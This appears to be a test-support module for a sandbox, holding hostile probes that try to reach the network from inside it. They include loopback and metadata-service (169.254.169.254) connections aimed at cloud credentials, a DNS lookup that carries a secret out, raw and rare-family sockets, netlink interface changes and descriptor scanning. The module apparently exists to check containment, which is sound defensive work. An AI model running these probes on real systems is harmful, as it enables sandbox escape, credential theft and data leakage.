"""Payloads that go for the network: this machine's own services first of all."""

# ruff: noqa: PTH115, PTH123 - payloads go as straight to the kernel as they can
from __future__ import annotations

import contextlib
import ctypes
import os
import socket
import struct

from tests.support.hostile.attempts import LIBC, Loot, Targets


def _connected(family: int, address: object, *, kind: int = socket.SOCK_STREAM, protocol: int = 0) -> bool:
    with socket.socket(family, kind, protocol) as stream:
        stream.settimeout(1)
        stream.connect(address)  # type: ignore[arg-type]
        return True


def connect_to_loopback(targets: Targets) -> list[str]:
    """A service that trusts whoever comes from this machine, as Redis does."""
    loot = Loot()
    for host in ("127.0.0.1", "127.0.1.1", "0.0.0.0", "localhost"):
        loot.trying(host, lambda host=host: _connected(socket.AF_INET, (host, targets["port"])))
    return loot


def connect_to_loopback_v6(targets: Targets) -> list[str]:
    """The same by the newer protocol, mapped addresses included."""
    loot = Loot()
    for host in ("::1", "::", "::ffff:127.0.0.1"):
        loot.trying(
            host,
            lambda host=host: _connected(
                socket.AF_INET6, (host, targets["port6"] if ":f" not in host else targets["port"])
            ),
        )
    return loot


def connect_to_the_machines_addresses(targets: Targets) -> list[str]:
    """Not loopback, but this machine all the same."""
    loot = Loot()
    for host in targets["addresses"]:
        loot.trying(host, lambda host=host: _connected(socket.AF_INET, (host, targets["open_port"])))
    return loot


def connect_without_connect(targets: Targets) -> list[str]:
    """The first data opens the connection, so that a check on connect() is never asked."""
    loot = Loot()

    def fast_open() -> bool:
        with socket.socket() as stream:
            stream.settimeout(1)
            return stream.sendto(b"x", 0x20000000, ("127.0.0.1", targets["port"])) > 0

    loot.trying("fast open", fast_open)
    loot.trying("multipath", lambda: _connected(socket.AF_INET, ("127.0.0.1", targets["port"]), protocol=262))
    loot.trying("sctp", lambda: _connected(socket.AF_INET, ("127.0.0.1", targets["port"]), protocol=132))
    return loot


def send_a_datagram(targets: Targets) -> list[str]:
    """Nothing needs to answer for something to have left."""
    loot = Loot()

    def send(host: str, port: int) -> bool:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            return out.sendto(b"x", (host, port)) > 0

    loot.trying("this machine", lambda: send("127.0.0.1", targets["udp_port"]) and targets["bare"])
    loot.trying("documentation network", lambda: send("192.0.2.1", 53))
    loot.trying("broadcast", lambda: send("255.255.255.255", 9))
    loot.trying("multicast", lambda: send("224.0.0.251", 5353))
    return loot


def ask_for_a_name(targets: Targets) -> list[str]:
    """A name is enough to carry a secret out."""
    loot = Loot()
    loot.trying("name", lambda: socket.getaddrinfo("secret-4711.example.com", 80))
    return loot


def ask_the_metadata_service(targets: Targets) -> list[str]:
    """Clouds give out credentials at this address."""
    loot = Loot()
    loot.trying("metadata", lambda: _connected(socket.AF_INET, ("169.254.169.254", 80)))
    loot.trying("metadata v6", lambda: _connected(socket.AF_INET6, ("fd00:ec2::254", 80)))
    return loot


def connect_to_an_abstract_socket(targets: Targets) -> list[str]:
    """Sockets without a file, which no mount namespace hides."""
    loot = Loot()
    loot.trying("abstract", lambda: _connected(socket.AF_UNIX, "\0" + targets["abstract"]))

    def datagram() -> bool:
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as out:
            return out.sendto(b"x", "\0" + targets["abstract"] + "-datagrams") > 0

    loot.trying("abstract datagram", datagram)
    return loot


def open_raw_sockets(targets: Targets) -> list[str]:
    """Forged packets, and everybody else's."""
    loot = Loot()
    for name, family, kind, protocol in (
        ("raw", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        ("raw v6", socket.AF_INET6, socket.SOCK_RAW, 58),
        ("packet", 17, socket.SOCK_RAW, 0x0300),
        ("ping", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    ):
        loot.doing(
            name, lambda family=family, kind=kind, protocol=protocol: socket.socket(family, kind, protocol).close()
        )
    return loot


def open_rare_families(targets: Targets) -> list[str]:
    """Corners of the kernel in which most of its holes were found."""
    loot = Loot()
    for name, family, kind in (
        ("alg", 38, 5),
        ("vsock", 40, 1),
        ("key", 15, 3),
        ("tipc", 30, 2),
        ("can", 29, 3),
        ("bluetooth", 31, 3),
        ("rds", 21, 5),
        ("x25", 9, 5),
        ("xdp", 44, 3),
        ("smc", 43, 1),
        ("phonet", 35, 2),
        ("nfc", 39, 5),
        ("kcm", 41, 5),
        ("qipcrtr", 42, 2),
        ("llc", 26, 1),
        ("ax25", 3, 5),
        ("appletalk", 5, 2),
    ):
        loot.doing(name, lambda family=family, kind=kind: socket.socket(family, kind, 0).close())
    return loot


def talk_netlink(targets: Targets) -> list[str]:
    """Ask the kernel for its interfaces and try to bring one up or to add an address."""
    loot = Loot()
    loot.trying("interfaces", lambda: [name for _, name in socket.if_nameindex() if name != "lo"])

    def bring_up() -> bool:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
            request = struct.pack("16sh", b"lo", 1 | 64)
            if LIBC.ioctl(any_socket.fileno(), 0x8914, ctypes.create_string_buffer(request, 40)) != 0:
                raise OSError(ctypes.get_errno(), "SIOCSIFFLAGS")
            return True

    loot.trying("flags of lo", bring_up)
    for protocol, name in (
        (2, "sock diag"),
        (6, "xfrm"),
        (12, "netfilter"),
        (15, "uevents"),
        (9, "audit"),
        (16, "generic"),
    ):
        if name not in {"sock diag", "generic", "uevents"}:
            loot.doing(name, lambda protocol=protocol: socket.socket(16, socket.SOCK_RAW, protocol).close())
    return loot


def see_the_machines_ports(targets: Targets) -> list[str]:
    """A port that is taken gives away that the network is shared."""
    loot = Loot()
    with contextlib.suppress(OSError):
        stream = socket.socket()
        stream.bind(("127.0.0.1", 0))
        stream.close()
        with socket.socket() as again:
            try:
                again.bind(("127.0.0.1", targets["port"]))
            except OSError:
                loot.append("the port is taken")
    for name in ("tcp", "udp", "unix"):
        with contextlib.suppress(OSError), open(f"/proc/net/{name}") as table:
            if f"{targets['port']:04X}" in table.read():
                loot.append(f"the port stands in /proc/net/{name}")
    return loot


def receive_a_descriptor(targets: Targets) -> list[str]:
    """Every open descriptor that is a socket may be a way out."""
    loot = Loot()
    for fd in range(256):
        with contextlib.suppress(OSError):
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                loot.append(f"descriptor {fd} is a socket")
    return loot
